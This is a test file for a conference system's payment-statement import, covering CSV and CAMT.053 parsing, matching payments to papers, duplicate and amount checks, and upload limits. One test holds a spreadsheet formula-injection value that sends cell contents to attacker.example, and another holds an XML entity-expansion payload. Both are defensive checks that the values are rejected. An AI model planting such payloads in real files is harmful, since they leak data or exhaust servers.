import { readFileSync } from 'node:fs';
import path from 'node:path';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { papers, paymentDecisions } from '@server/db/schema/index.ts';
import { createTestPaper, createTestUser, type TestUser } from '@server/test/factories.ts';
import { multipart } from '@server/test/multipart.ts';
import { API, createTestAppWithMail, type TestAppWithMail } from '@server/test/test-app.ts';

const FIXTURES = path.join(import.meta.dirname, 'fixtures');
const fixture = (name: string) => readFileSync(path.join(FIXTURES, name));

/** The portal's export as it writes it: see fixtures/portal-export.csv. */
const PORTAL_MAPPING = {
  paymentId: 'Transaction ID',
  amount: 'Amount',
  currency: 'Currency',
  receivedOn: 'Date of Payment',
  payerName: 'Payer Name',
  decimalSeparator: '.',
  dateFormat: 'DD/MM/YYYY',
  defaultCurrency: 'INR',
};

interface Row {
  _id: string;
  line: number;
  paymentId: string;
  class: string;
  explanation: string;
  amountMinor: number | null;
  payerName: string;
  paper: { paperId: string; ictacemId: string } | null;
  suggestions: { paperId: string; paymentId: string }[];
  feeDue: { amountMinor: number; rate: string } | null;
  resolution: string | null;
}

describe('statement import: rows matched to papers by payment ID, classed, confirmed through the one confirmation', () => {
  let t: TestAppWithMail;
  let admin: TestUser;
  let secondAdmin: TestUser;
  let author: TestUser;
  /** Paper ids by the payment ID their author entered. */
  const paperOf = new Map<string, string>();

  async function call(who: TestUser, method: 'GET' | 'PUT' | 'POST' | 'PATCH', url: string, payload?: object) {
    const res = await t.app.inject({ method, url: `${API}${url}`, headers: { cookie: who.cookie }, payload });
    return { status: res.statusCode, json: res.json() };
  }

  async function upload(who: TestUser, content: Buffer, name = 'statement.csv') {
    const body = multipart({}, [{ field: 'statement', name, type: 'text/csv', content }]);
    const res = await t.app.inject({
      method: 'POST',
      url: `${API}/admin/payment-statements`,
      headers: { ...body.headers, cookie: who.cookie },
      payload: body.payload,
    });
    return { status: res.statusCode, json: res.json() };
  }

  const rowsOf = (json: { report: { rows: Row[] } }) => json.report.rows;
  const byLine = (rows: Row[], line: number) => rows.find((r) => r.line === line)!;

  beforeAll(async () => {
    t = await createTestAppWithMail();
    admin = await createTestUser(t.app, { role: 'admin', username: 'Đặng Văn Minh' });
    secondAdmin = await createTestUser(t.app, { role: 'admin', username: 'Second Organiser' });
    author = await createTestUser(t.app, { username: 'Анна Петрова' });
    const student = await call(admin, 'POST', '/admin/fees/categories', {
      name: 'Student (Indian)',
      currency: 'INR',
      earlyBird: '5000',
      late: '6000',
    });
    const academic = await call(admin, 'POST', '/admin/fees/categories', {
      name: 'Academic (foreign)',
      currency: 'USD',
      earlyBird: '300',
      late: '350',
    });
    const ids = ['0001', '0002', '0003', '0004', '0005', '0060', '0007', '0008', '0009', '0010'];
    for (const suffix of ids) {
      const owner = await createTestUser(t.app);
      const paper = await createTestPaper(t.app, owner);
      await call(admin, 'PUT', `/admin/papers/${paper._id}/status`, { status: 'abstract_accepted', review: '' });
      const paymentId = `CEP-2025-${suffix}`;
      expect((await call(owner, 'PATCH', `/papers/${paper._id}/payment`, { paymentId })).status).toBe(200);
      const categoryId = suffix === '0003' ? academic.json.category._id : student.json.category._id;
      expect((await call(owner, 'PUT', `/papers/${paper._id}/fee-category`, { categoryId })).status).toBe(200);
      paperOf.set(paymentId, paper._id);
    }
    // One ID on two papers, as recorded before IDs were checked for reuse.
    for (const suffix of ['0009', '0010'])
      await t.app.ctx.db
        .update(papers)
        .set({ paymentId: 'LEGACY-42' })
        .where(eq(papers.id, paperOf.get(`CEP-2025-${suffix}`)!));
    // A payment an organiser confirmed by hand before the statement came.
    expect(
      (
        await call(admin, 'POST', `/admin/papers/${paperOf.get('CEP-2025-0008')}/payment/confirm`, {
          paymentId: 'CEP-2025-0008',
          receivedOn: '2025-11-09',
          amount: '5000',
          currency: 'INR',
        })
      ).status,
    ).toBe(200);
  });
  afterAll(() => t.close());

  it('is for organisers only: 403 to an author on every route, 404 for an unknown statement', async () => {
    expect((await upload(author, fixture('portal-export.csv'))).status).toBe(403);
    expect((await call(author, 'GET', '/admin/payment-statements')).status).toBe(403);
    expect((await call(author, 'PUT', '/admin/payment-statements/mapping', PORTAL_MAPPING)).status).toBe(403);
    const unknown = '00000000-0000-4000-8000-000000000000';
    expect((await call(admin, 'GET', `/admin/payment-statements/${unknown}`)).status).toBe(404);
    expect((await call(admin, 'POST', `/admin/payment-statements/${unknown}/confirm`, {})).status).toBe(404);
  });

  it('asks for the column mapping first, lists the header, and refuses a mapping naming a column the file lacks', async () => {
    const first = await upload(admin, fixture('portal-export.csv'));
    expect(first.status).toBe(200);
    expect(first.json).toMatchObject({ outcome: 'needs_mapping', mapping: null });
    expect(first.json.columns).toEqual([
      'Transaction ID',
      'Amount',
      'Currency',
      'Date of Payment',
      'Payer Name',
      'Purpose',
    ]);
    expect(
      (await call(admin, 'PUT', '/admin/payment-statements/mapping', { ...PORTAL_MAPPING, amount: 'Sum' })).status,
    ).toBe(200);
    const wrong = await upload(admin, fixture('portal-export.csv'));
    expect(wrong.json.outcome).toBe('needs_mapping');
    expect(wrong.json.message).toContain('The statement has no column named “Sum”');
    const saved = await call(admin, 'PUT', '/admin/payment-statements/mapping', PORTAL_MAPPING);
    expect(saved.json.mapping).toMatchObject({ amount: 'Amount', decimalSeparator: '.' });
    expect((await call(admin, 'GET', '/admin/payment-statements/mapping')).json.mapping.paymentId).toBe(
      'Transaction ID',
    );
    expect((await call(admin, 'GET', '/admin/payment-statements')).json.statements).toEqual([]);
  });

  it('classes the portal’s rows: matched, amount differs, duplicate, unmatched with a near match, unreadable per line', async () => {
    const res = await upload(admin, fixture('portal-export.csv'), 'portal export.csv');
    expect(res.status).toBe(200);
    expect(res.json).toMatchObject({ outcome: 'imported', created: true });
    expect(res.json.report.statement).toMatchObject({ format: 'csv', encoding: 'UTF-8 with BOM', rowCount: 14 });
    const rows = rowsOf(res.json);
    // Line 2: the early-bird fee in rupees, with grouping commas, exact in paise.
    expect(byLine(rows, 2)).toMatchObject({ class: 'matched', amountMinor: 500000, payerName: '王小明' });
    expect(byLine(rows, 2).feeDue).toMatchObject({ amountMinor: 500000, rate: 'early_bird' });
    // Line 3: received on 16 November, the late fee is due.
    expect(byLine(rows, 3)).toMatchObject({ class: 'amount_differs', feeDue: { amountMinor: 600000, rate: 'late' } });
    expect(byLine(rows, 3).explanation).toBe(
      'INR 6,000.00 due (Student (Indian), late rate for 16 November 2025); INR 5,000.00 paid.',
    );
    // Line 4: the late dollar fee for the Academic category.
    expect(byLine(rows, 4)).toMatchObject({ class: 'matched', payerName: 'अनिल कुमार', feeDue: { rate: 'late' } });
    // Line 5: "cep 2025-0004" is CEP-2025-0004, whatever the case, spaces and dashes.
    expect(byLine(rows, 5)).toMatchObject({ class: 'matched', payerName: 'Zofia Wójcik' });
    expect(byLine(rows, 5).paper?.paperId).toBe(paperOf.get('CEP-2025-0004'));
    // Lines 6 and 7: paid twice.
    expect(byLine(rows, 6).class).toBe('matched');
    expect(byLine(rows, 7)).toMatchObject({
      class: 'duplicate',
      explanation: 'Paid twice in this statement: also line 6.',
    });
    // Line 8: CEP-2025-0006 is no paper's, but CEP-2025-0060 is one swap away: suggested only.
    expect(byLine(rows, 8)).toMatchObject({ class: 'unmatched', paper: null });
    // Sequential IDs are one digit apart too: the swap comes first; confirmed papers are not offered.
    const offered = byLine(rows, 8).suggestions.map((s) => s.paymentId);
    expect(offered[0]).toBe('CEP-2025-0060');
    expect(offered).not.toContain('CEP-2025-0008');
    expect(byLine(rows, 9)).toMatchObject({ class: 'unmatched', suggestions: [] });
    // Line 10: confirmed by hand before; line 11: one ID on two papers.
    expect(byLine(rows, 10).class).toBe('duplicate');
    expect(byLine(rows, 10).explanation).toContain('Already confirmed (received 9 November 2025, by an organiser)');
    expect(byLine(rows, 11)).toMatchObject({ class: 'duplicate', paper: null });
    expect(byLine(rows, 11).suggestions).toHaveLength(2);
    // Unreadable rows name their problem.
    expect(byLine(rows, 12)).toMatchObject({ class: 'unreadable', amountMinor: null });
    expect(byLine(rows, 12).explanation).toContain('The amount “five thousand” is not an amount');
    expect(byLine(rows, 13).explanation).toContain(
      'The date “31/02/2025 16:20:00” is not a day in the form DD/MM/YYYY.',
    );
    // A formula is kept as text, never run, and the row is not matched.
    expect(byLine(rows, 14).class).toBe('unreadable');
    expect(byLine(rows, 14).paymentId).toBe('=HYPERLINK("http://attacker.example/?"&A1,"Click")');
    expect(byLine(rows, 14).explanation).toContain('looks like a spreadsheet formula');
    expect(byLine(rows, 15).explanation).toContain('The row has 3 columns');
    expect(res.json.report.counts).toEqual({
      matched: 4,
      amount_differs: 1,
      duplicate: 3,
      unmatched: 2,
      unreadable: 4,
    });
    // CEP-2025-0007 and CEP-2025-0060 have an ID no row has (0060 only by a near match).
    expect(res.json.report.papersWithoutRow.map((p: { paymentId: string }) => p.paymentId).sort()).toEqual([
      'CEP-2025-0007',
      'CEP-2025-0060',
    ]);
    // Nothing is applied until Confirm.
    expect(await t.app.ctx.db.select().from(paymentDecisions).where(eq(paymentDecisions.source, 'statement'))).toEqual(
      [],
    );
  });

  it('confirms the matched rows through the existing confirmation, once, even with two organisers at once', async () => {
    const imported = await upload(admin, fixture('portal-export.csv'));
    expect(imported.json).toMatchObject({ outcome: 'imported', created: false });
    const statementId = imported.json.report.statement._id;
    const rows = rowsOf(imported.json);
    // A selection: only line 2 first; a row that is not matched is refused by line.
    const selected = await call(admin, 'POST', `/admin/payment-statements/${statementId}/confirm`, {
      rowIds: [byLine(rows, 2)._id, byLine(rows, 3)._id],
    });
    expect(selected.status).toBe(200);
    expect(selected.json).toMatchObject({ confirmed: 1, alreadyConfirmed: 0 });
    expect(selected.json.refused).toEqual([
      { line: 3, message: 'Only matched rows are confirmed with Confirm; resolve the others by hand.' },
    ]);
    // Then all the rest, by two organisers at the same moment.
    const [one, two] = await Promise.all([
      call(admin, 'POST', `/admin/payment-statements/${statementId}/confirm`, {}),
      call(secondAdmin, 'POST', `/admin/payment-statements/${statementId}/confirm`, {}),
    ]);
    expect([one.status, two.status]).toEqual([200, 200]);
    expect(one.json.confirmed + two.json.confirmed).toBe(3);
    const decisions = await t.app.ctx.db
      .select()
      .from(paymentDecisions)
      .where(eq(paymentDecisions.source, 'statement'));
    expect(decisions).toHaveLength(4);
    expect(new Set(decisions.map((d) => d.paperId)).size).toBe(4);
    const late = decisions.find((d) => d.paymentId === 'CEP-2025-0003')!;
    expect(late).toMatchObject({ receivedOn: '2025-11-20', amountMinor: 35000, currency: 'USD', rate: 'late' });
    // The payer as the statement names them, for the receipt.
    expect(decisions.find((d) => d.paymentId === 'CEP-2025-0001')!.payerName).toBe('王小明');
    // The timeline says who and when; the author's paper card the sentence.
    const timeline = (await call(admin, 'GET', `/admin/papers/${paperOf.get('CEP-2025-0001')}/timeline`)).json.timeline;
    expect(timeline.find((e: { action: string }) => e.action === 'payment_confirmed')).toMatchObject({
      label: 'Payment confirmed: CEP-2025-0001, INR 5,000.00 received 12 November 2025, Early bird',
      actor: { name: 'Đặng Văn Minh', role: 'organiser' },
    });
    const after = (await call(admin, 'GET', `/admin/payment-statements/${statementId}`)).json;
    expect(byLine(rowsOf(after), 2)).toMatchObject({ class: 'matched', resolution: 'confirmed' });
    // Importing the same statement again changes nothing; Confirm again confirms nothing.
    const again = await upload(admin, fixture('portal-export.csv'));
    expect(again.json).toMatchObject({ created: false, message: expect.stringContaining('imported before') });
    expect((await call(admin, 'GET', '/admin/payment-statements')).json.statements).toHaveLength(1);
    const twice = await call(admin, 'POST', `/admin/payment-statements/${statementId}/confirm`, {});
    expect(twice.json).toMatchObject({ confirmed: 0, message: 'No matched rows to confirm.' });
    expect(
      await t.app.ctx.db.select().from(paymentDecisions).where(eq(paymentDecisions.source, 'statement')),
    ).toHaveLength(4);
  });

  it('resolves the others by hand: a near match confirmed with a note, a wrong amount rejected with a reason', async () => {
    const report = (await upload(admin, fixture('portal-export.csv'))).json.report;
    const statementId = report.statement._id;
    const near = byLine(report.rows, 8);
    const url = (row: Row) => `/admin/payment-statements/${statementId}/rows/${row._id}/resolve`;
    // Only a paper the row names or suggests.
    const elsewhere = await call(admin, 'POST', url(near), {
      action: 'confirm',
      paperId: paperOf.get('CEP-2025-0009'),
      note: 'Guess',
    });
    expect(elsewhere.status).toBe(400);
    expect(elsewhere.json.message).toBe('Choose the paper this payment is for.');
    expect(
      (await call(admin, 'POST', url(near), { action: 'confirm', paperId: near.suggestions[0]!.paperId, note: '' }))
        .status,
    ).toBe(400);
    const confirmed = await call(admin, 'POST', url(near), {
      action: 'confirm',
      paperId: near.suggestions[0]!.paperId,
      note: 'The payer swapped two digits; the portal’s receipt shows CEP-2025-0060.',
    });
    expect(confirmed.status).toBe(200);
    expect(byLine(rowsOf(confirmed.json), 8)).toMatchObject({ resolution: 'confirmed_by_hand' });
    const timeline = (await call(admin, 'GET', `/admin/papers/${near.suggestions[0]!.paperId}/timeline`)).json.timeline;
    expect(timeline.find((e: { action: string }) => e.action === 'payment_confirmed').reason).toContain(
      'swapped two digits',
    );
    expect((await call(admin, 'POST', url(near), { action: 'note', note: 'Again' })).status).toBe(409);

    const wrong = byLine(report.rows, 3);
    const rejected = await call(admin, 'POST', url(wrong), {
      action: 'reject',
      paperId: wrong.paper!.paperId,
      reason: 'The late fee is INR 6,000; INR 5,000 was received. Please pay the difference.',
    });
    expect(rejected.status).toBe(200);
    expect(rejected.json.message).toContain('Payment rejected.');
    const paper = await t.app.ctx.db.select().from(papers).where(eq(papers.id, wrong.paper!.paperId));
    expect(paper[0]!.paymentId).toBe('');
    const unreadable = byLine(report.rows, 12);
    expect(
      (
        await call(admin, 'POST', url(unreadable), {
          action: 'confirm',
          paperId: paperOf.get('CEP-2025-0007'),
          note: 'x',
        })
      ).status,
    ).toBe(400);
    const noted = await call(admin, 'POST', url(byLine(report.rows, 9)), {
      action: 'note',
      note: 'Not a conference payment.',
    });
    expect(byLine(rowsOf(noted.json), 9)).toMatchObject({ resolution: 'noted' });
  });

  it('reads a Windows-1252 export with a semicolon and a decimal comma, once mapped that way', async () => {
    await call(admin, 'PUT', '/admin/payment-statements/mapping', {
      paymentId: 'Referenz',
      amount: 'Betrag',
      currency: '',
      receivedOn: 'Datum',
      payerName: 'Auftraggeber',
      decimalSeparator: ',',
      dateFormat: 'DD.MM.YYYY',
      defaultCurrency: 'INR',
    });
    const res = await upload(admin, fixture('portal-export-windows-1252.csv'));
    expect(res.status).toBe(200);
    expect(res.json.report.statement.encoding).toBe('Windows-1252');
    const rows = rowsOf(res.json);
    expect(rows.map((r) => [r.line, r.payerName, r.amountMinor])).toEqual([
      [2, 'Zofia Wójcik', 500000],
      [3, 'François Müller', 35000],
      [4, 'Søren Ærø', 600000],
    ]);
    // Confirmed by the first import already; paid in rupees where dollars were due.
    expect(byLine(rows, 2)).toMatchObject({ class: 'duplicate' });
    expect(byLine(rows, 3).class).toBe('duplicate');
    await call(admin, 'PUT', '/admin/payment-statements/mapping', PORTAL_MAPPING);
  });

  it('reads a CAMT.053 statement, checks its structure and says what is missing', async () => {
    const res = await upload(admin, fixture('camt053-statement.xml'), 'camt053.xml');
    expect(res.status).toBe(200);
    expect(res.json.report.statement).toMatchObject({ format: 'camt053', encoding: 'UTF-8' });
    expect(res.json.report.findings).toEqual(['1 debit entry was left out (CdtDbtInd DBIT).']);
    const rows = rowsOf(res.json);
    expect(rows.map((r) => [r.line, r.paymentId, r.amountMinor, r.payerName])).toEqual([
      [1, 'CEP-2025-0001', 500000, '王小明'],
      [2, 'Conference fee CEP-2025-0002', 600000, 'Анна Петрова'],
      [2, 'CEP-2025-0004', 400000, 'Zofia Wójcik'],
      [4, 'CEP-2025-0005', 500000, ''],
    ]);
    // The ID in the remittance line is found among its words; the rejected paper has no ID now.
    expect(rows[1]!.class).toBe('unmatched');
    expect(rows[2]).toMatchObject({ class: 'duplicate' });
    expect(rows[3]!.class).toBe('unreadable');
    expect(rows[3]!.explanation).toBe(
      'Entry 4 (NtryRef 4): Amt has no Ccy. Entry 4 (NtryRef 4): BookgDt and ValDt are missing or not days.',
    );
  });

  it('refuses what is not a statement, a file over the limit with 413, and XML with a DTD', async () => {
    const notCamt = await upload(admin, Buffer.from('<?xml version="1.0"?><Document><Other/></Document>'), 'x.xml');
    expect(notCamt.status).toBe(400);
    expect(notCamt.json.message).toBe(
      'The XML file is not a CAMT.053 bank-to-customer statement: Document/BkToCstmrStmt is missing.',
    );
    const broken = await upload(admin, Buffer.from('<Document><BkToCstmrStmt></Document>'), 'x.xml');
    expect(broken.status).toBe(400);
    expect(broken.json.message).toMatch(/^The XML file is not well-formed \(line 1: /);
    const bomb = await upload(
      admin,
      Buffer.from(
        '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><Document>&b;</Document>',
      ),
      'x.xml',
    );
    expect(bomb.status).toBe(400);
    const huge = Buffer.alloc(100 * 1024 * 1024, 'a');
    const tooLarge = await upload(admin, huge, 'huge.csv');
    expect(tooLarge.status).toBe(413);
    expect(tooLarge.json.message).toBe(
      'The statement is larger than 10 MB. Export a shorter period and import it in parts.',
    );
    const many = Buffer.from(
      `Transaction ID,Amount,Currency,Date of Payment,Payer Name\n${'X,1,INR,01/11/2025,A\n'.repeat(50_001)}`,
    );
    const tooMany = await upload(admin, many, 'many.csv');
    expect(tooMany.status).toBe(413);
    expect(tooMany.json.message).toContain('more than 50,000 rows');
  });
});
